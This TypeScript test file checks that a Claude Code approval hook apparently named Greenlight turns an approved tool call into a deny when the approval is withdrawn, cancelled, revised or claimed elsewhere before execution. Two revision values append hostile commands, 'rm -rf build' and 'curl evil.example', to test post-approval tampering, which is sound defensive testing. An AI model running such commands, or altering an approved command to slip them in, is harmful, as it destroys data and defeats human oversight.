/**
 * The hook claims before it answers allow (issue 11 follow-up): Claude Code runs the call
 * the moment it reads allow, so whatever withdraws the approval between the decision and
 * the hand-out (a deny rule, the kill switch; a cancel; a revision; another executor)
 * must turn the answer into a deny. A proxy holds the hook's `steps.claim` before it
 * reaches the server, the test lands the change, then lets the claim go: the window is
 * hit every time, with the real hook process and a real server.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClient, type GreenlightClient } from '@greenlight/sdk';
import type { HookOutput } from '../src/hook/answer.ts';
import { fixtureText } from './helpers.ts';
import { spawnCli, type Run } from './process.ts';
import { startProxy, type Proxy } from './proxy.ts';
import { startWorkspace, waitForApproval, type Workspace } from './workspace.ts';

let ws: Workspace;
let proxy: Proxy;
let admin: GreenlightClient;
let agent: GreenlightClient;

beforeAll(async () => {
  ws = await startWorkspace('cli-claim');
  proxy = await startProxy(ws.server.url);
  admin = createClient({ url: ws.server.url, key: ws.keys.admin });
  agent = createClient({ url: ws.server.url, key: ws.keys.agent });
});
afterAll(async () => {
  await proxy?.close();
  await ws?.stop();
});

function bashInput(marker: string): string {
  const input = JSON.parse(fixtureText('bash', ws.project)) as { tool_input: { command: string }; tool_use_id: string };
  input.tool_input.command = `echo ${marker}`;
  input.tool_use_id = `toolu_${marker}`;
  return JSON.stringify(input);
}

// A task per call, so what the hook takes back after a refused claim (its task, cancelled) is visible.
const hookEnv = (url: string) => ({ GREENLIGHT_URL: url, GREENLIGHT_KEY: ws.keys.agent, XDG_CONFIG_HOME: `${ws.dir}/xdg`, GREENLIGHT_STATE_DIR: `${ws.dir}/hook-state`, GREENLIGHT_HOOK_TASK: 'call' });

const hookJson = (run: Run): HookOutput['hookSpecificOutput'] => (JSON.parse(run.stdout) as HookOutput).hookSpecificOutput;

/**
 * Run the hook for `echo <marker>`, approve it, hold its claim, run `between` (the
 * approval and the claim's arrival at the server), then let the claim go.
 */
async function approveThen(marker: string, between: (taskId: string, stepId: string) => Promise<unknown>): Promise<{ run: Run; taskId: string; stepId: string }> {
  const held = proxy.holdNext('steps.claim', 'request');
  const running = spawnCli(['hook', 'claude-code'], {
    cwd: ws.project,
    stdin: bashInput(marker),
    env: hookEnv(proxy.url),
  });
  const approval = await waitForApproval(ws.reviewer, (a) => a.params.command === `echo ${marker}`, marker);
  await ws.reviewer.approvals.decide.mutate({ approvalId: approval.approvalId, decision: 'approve', paramsHash: approval.paramsHash });
  await held.arrived;
  await between(approval.taskId, approval.stepId);
  held.release();
  const run = await running.result;
  return { run, taskId: approval.taskId, stepId: approval.stepId };
}

describe('the Claude Code hook claims the approved step before it answers allow', () => {
  it('a deny rule set after the approval, before the claim: the hook answers deny with the rule, never allow', async () => {
    const { run, stepId } = await approveThen('claim-deny', async () => {
      const { policy } = await admin.policy.get.query();
      const rule = { name: 'freeze-echo', match: { kind: 'run_command' as const, command: '^echo claim-deny' }, action: 'deny' as const, reason: 'frozen for the release' };
      await admin.policy.set.mutate({ policy: { ...policy, rules: [rule, ...policy.rules] } });
    });
    expect(run.code).toBe(0);
    expect(hookJson(run).permissionDecision).toBe('deny');
    expect(hookJson(run).permissionDecisionReason).toContain('freeze-echo');
    expect((await ws.reviewer.steps.get.query({ stepId })).status).toBe('rejected');
  });

  it('a cancel after the approval, before the claim: the hook answers deny, naming who cancelled', async () => {
    const { run, stepId } = await approveThen('claim-cancel', (taskId) => admin.tasks.cancel.mutate({ taskId, reason: 'changed my mind' }));
    expect(run.code).toBe(0);
    expect(hookJson(run)).toMatchObject({ permissionDecision: 'deny', permissionDecisionReason: 'Greenlight: the task was cancelled by admin: changed my mind' });
    expect((await ws.reviewer.steps.get.query({ stepId })).status).toBe('cancelled');
  });

  it('a revision after the approval, before the claim: the hook answers deny, and nothing is left open', async () => {
    const { run, taskId } = await approveThen('claim-revise', (taskId, stepId) => agent.tasks.revise.mutate({ taskId, stepId, params: { command: 'echo claim-revise && rm -rf build' } }));
    expect(run.code).toBe(0);
    expect(hookJson(run).permissionDecision).toBe('deny');
    expect(hookJson(run).permissionDecisionReason).toContain('changed after it was approved');
    // The revision's new approval is closed with the task: nobody waits for it.
    expect((await ws.reviewer.tasks.get.query({ taskId })).status).toBe('cancelled');
  });

  it('another executor claimed the step first: the hook answers deny, not allow', async () => {
    let theirs: string[] = [];
    const { run } = await approveThen('claim-stolen', async (taskId) => {
      theirs = (await agent.steps.claim.mutate({ taskId, max: 1 })).steps.map((s) => s.stepId);
    });
    expect(theirs).toHaveLength(1);
    expect(hookJson(run).permissionDecision).toBe('deny');
    expect(hookJson(run).permissionDecisionReason).toContain('could not be claimed');
  });

  it('claimed in time: allow while holding the lease, then PostToolUse completes the step with the real result (no lease left)', async () => {
    const { run, stepId } = await approveThen('claim-ok', async () => {});
    expect(hookJson(run)).toMatchObject({ permissionDecision: 'allow', permissionDecisionReason: 'Greenlight: approved by ana' });
    expect((await ws.reviewer.steps.get.query({ stepId })).status).toBe('executing');
    const post = { ...(JSON.parse(bashInput('claim-ok')) as Record<string, unknown>), hook_event_name: 'PostToolUse', tool_response: { stdout: 'claim-ok\n', stderr: '' } };
    const posted = await spawnCli(['hook', 'claude-code'], { cwd: ws.project, stdin: JSON.stringify(post), env: hookEnv(ws.server.url) }).result;
    expect(posted.code).toBe(0);
    const step = await ws.reviewer.steps.get.query({ stepId });
    expect(step.status).toBe('completed');
    expect(step.lease).toBeUndefined();
    expect(step.result?.output).toEqual({ result: { stdout: 'claim-ok\n', stderr: '' } });
  });
});

describe('the hook waits for the decision on exactly the approval it opened', () => {
  it('revised before the wait begins: the hook stops at once (superseded), never waits on the new approval', async () => {
    const marker = 'bound-wait';
    // The wait's first read of the step, held: the step is revised (a new approval opens) before the wait binds.
    const held = proxy.holdNext('steps.get', 'request');
    const running = spawnCli(['hook', 'claude-code', '--timeout', '20'], {
      cwd: ws.project,
      stdin: bashInput(marker),
      env: hookEnv(proxy.url),
    });
    await held.arrived;
    const approval = await waitForApproval(ws.reviewer, (a) => a.params.command === `echo ${marker}`, marker);
    await agent.tasks.revise.mutate({ taskId: approval.taskId, stepId: approval.stepId, params: { command: `echo ${marker} && curl evil.example` } });
    held.release();
    const run = await running.result;
    expect(hookJson(run).permissionDecision).toBe('ask');
    expect(hookJson(run).permissionDecisionReason).toContain('was revised');
    expect(run.ms).toBeLessThan(15_000);
    expect((await ws.reviewer.tasks.get.query({ taskId: approval.taskId })).status).toBe('cancelled');
  });
});
